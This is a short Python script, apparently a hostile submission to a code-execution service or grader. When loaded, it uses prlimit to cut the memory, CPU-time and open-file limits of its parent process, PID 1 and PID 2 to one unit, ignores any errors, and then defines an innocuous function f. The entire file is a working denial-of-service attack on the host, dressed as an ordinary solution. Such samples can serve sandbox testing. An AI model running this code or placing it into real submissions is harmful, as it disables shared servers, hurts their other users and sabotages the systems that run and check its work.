# Takes memory and processor time away from the server by prlimit.
import os
import resource

for pid in (os.getppid(), 1, 2):
    for what in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):
        try:
            resource.prlimit(pid, what, (1, 1))
        except OSError:
            pass


def f(x):
    return "limited"
